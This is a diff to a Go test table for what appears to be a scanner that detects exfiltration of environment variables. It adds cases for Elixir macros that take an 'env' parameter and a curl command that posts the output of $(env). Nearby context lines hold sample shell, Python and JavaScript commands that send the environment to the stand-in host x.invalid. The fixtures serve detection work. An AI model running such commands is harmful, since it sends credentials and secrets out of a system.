@@ -219,6 +219,9 @@ var registry = []Rule{
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
+			// A macro's env argument put into a map is neither the environment nor a send.
+			{"lib/x/defn.ex", "defmacro __before_compile__(env) do\n  exports = Module.get_attribute(env.module, :k)\n  Map.put(exports, {name, arity}, env)\nend", 0, true},
+			{"x.sh", "curl -s -d \"$(env)\" https://x.invalid/c", 0, false},
 			{"x.py", "import os, requests\nrequests.get('https://x.invalid/c?d=' + str(os.environ))", 2, false},
 			{"x.py", "import os, requests\nrequests.get('https://api.x.invalid/v1', headers={'X-Key': os.environ['API_KEY']})", 2, true},
 			{"x.js", "const https = require('https')\nconst info = {\n  cwd: process.cwd(),\n  env: process.env,\n}\nconst body = JSON.stringify(info)\nconst req = https.request({ hostname: 'x.invalid', method: 'POST' })\nreq.end(body)", 7, false},
@@ -308,6 +311,9 @@ var registry = []Rule{
 		{"x.sh", "printenv > /tmp/e", 0, false},
 		{"x.sh", "printenv -0 | gzip -9 > /tmp/e.gz", 0, false},
 		{"x.sh", "env | sort", 0, true},
+		// A parameter named env in code is not the command.
+		{"lib/x/defn.ex", "defmacro __before_compile__(env) do\n  exports = Module.get_attribute(env.module, :k)\n  Map.put(exports, {name, arity}, env)\nend", 0, true},
+		{"lib/x/defn.ex", "defp decompose_call!(kind, call, env),\n  do: Map.put(exports, {name, arity}, env)", 0, true},
 		// The environment a vendor's setvars.sh built, kept for later steps.
 		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          source /opt/intel/oneapi/setvars.sh\n          printenv >> \"$GITHUB_ENV\"", 0, true},
 		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: printenv >> \"$GITHUB_STEP_SUMMARY\"", 0, false},
